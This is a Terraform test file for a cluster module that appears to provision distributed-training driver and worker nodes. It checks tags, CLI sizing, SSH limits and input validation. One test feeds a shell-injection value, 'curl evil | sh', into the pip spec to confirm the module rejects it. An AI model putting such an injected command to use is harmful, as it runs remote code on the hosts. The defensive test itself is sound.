# The shared module has no provider, so these run anywhere Terraform runs.
# tests/terraform/test_terraform_cli.py passes the discovery tag names as
# -var expected_* from cloud_elastic.providers.tags.

variables {
  cluster_name   = "demo"
  ssh_user       = "ubuntu"
  ssh_public_key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKmockmockmockmockmockmockmockmockmockmockmo demo"
  pip_spec       = "cloud-elastic[aws]"
  driver_ip      = "10.0.1.10"
}

run "discovery_tags_match_the_python_constants" {
  command = plan

  variables {
    tags = { team = "ml" }
  }

  assert {
    condition     = output.worker_tags == { (var.expected_role_tag) = var.expected_role_worker, (var.expected_cluster_tag) = "demo", team = "ml" }
    error_message = "worker tags: ${jsonencode(output.worker_tags)}"
  }
  assert {
    condition     = output.driver_tags == { (var.expected_role_tag) = var.expected_role_driver, (var.expected_cluster_tag) = "demo", team = "ml" }
    error_message = "driver tags: ${jsonencode(output.driver_tags)}"
  }
}

run "cli_args_follow_the_sizes" {
  command = plan

  variables {
    min_size          = 2
    max_size          = 8
    desired_size      = 4
    gpus_per_instance = 8
    training_command  = "python train.py --epochs 3"
  }

  assert {
    condition     = output.cli_args == "-np 32 --min-np 16 --max-np 64 --slots-per-host 8 --ssh-user ubuntu --ssh-identity-file ~/.ssh/cloud-elastic python train.py --epochs 3"
    error_message = "cli_args: ${output.cli_args}"
  }
}

run "worker_bootstrap_limits_ssh_and_ports" {
  command = plan

  assert {
    condition     = strcontains(output.worker_user_data, "AllowUsers ubuntu@10.0.1.10") && strcontains(output.worker_user_data, "ip_local_port_range = 29400 30399")
    error_message = "the worker bootstrap must allow SSH from the driver only and set the port range"
  }
  assert {
    condition     = !strcontains(output.driver_user_data, "AllowUsers")
    error_message = "the driver bootstrap must not restrict SSH to itself"
  }
}

run "driver_environment_reaches_the_driver_only" {
  command = plan

  variables {
    driver_environment = { VPC_AUTH_TYPE = "vpc" }
  }

  assert {
    condition     = strcontains(output.driver_user_data, "echo 'VPC_AUTH_TYPE=vpc' >> /etc/environment")
    error_message = "the driver bootstrap must write driver_environment"
  }
  assert {
    condition     = !strcontains(output.worker_user_data, "VPC_AUTH_TYPE")
    error_message = "workers must not get the driver's environment"
  }
}

run "tags_cannot_override_discovery_tags" {
  command = plan

  variables {
    tags = { (var.expected_role_tag) = "impostor" }
  }

  expect_failures = [var.tags]
}

run "admin_ssh_from_the_internet_is_rejected" {
  command = plan

  variables {
    admin_ssh_cidrs = ["0.0.0.0/0"]
  }

  expect_failures = [var.admin_ssh_cidrs]
}

run "too_narrow_training_ports_are_rejected" {
  command = plan

  variables {
    training_ports = { from = 29400, to = 29410 }
  }

  expect_failures = [var.training_ports]
}

run "desired_size_outside_bounds_is_rejected" {
  command = plan

  variables {
    max_size     = 2
    desired_size = 3
  }

  expect_failures = [var.desired_size]
}

run "pip_spec_with_shell_characters_is_rejected" {
  command = plan

  variables {
    pip_spec = "cloud-elastic'; curl evil | sh"
  }

  expect_failures = [var.pip_spec]
}

run "malformed_public_key_is_rejected" {
  command = plan

  variables {
    ssh_public_key = "-----BEGIN OPENSSH PRIVATE KEY-----"
  }

  expect_failures = [var.ssh_public_key]
}

run "the_driver_runs_under_systemd_with_restart_on_failure" {
  command = plan

  assert {
    condition     = strcontains(output.driver_user_data, "Restart=on-failure") && strcontains(output.driver_user_data, "systemctl enable cloud-elastic-driver.service") && strcontains(output.driver_user_data, "User=ubuntu")
    error_message = "the driver bootstrap must install and enable a systemd unit that restarts the driver on failure"
  }
  assert {
    condition     = !strcontains(output.worker_user_data, "cloud-elastic-driver")
    error_message = "workers must not run a driver"
  }
}
